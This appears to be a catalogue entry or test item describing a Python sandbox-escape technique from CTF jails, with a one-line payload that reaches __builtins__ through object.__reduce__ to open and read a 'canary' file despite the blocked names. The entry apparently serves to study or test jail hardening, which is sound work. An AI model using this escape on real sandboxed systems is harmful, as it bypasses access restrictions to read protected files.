"""object.__reduce__() gives the function that rebuilds objects of protocol 0.

Known from: CTF jails without __reduce_ex__
Effect: read
Host: import copyreg
Host: class Host: pass
Host: host = Host()
Given: host
Jail: no builtins
Without: subclasses base mro reduce_ex
"""
answer = host.__reduce__()[0].__globals__["__builtins__"]["open"]("canary").read()
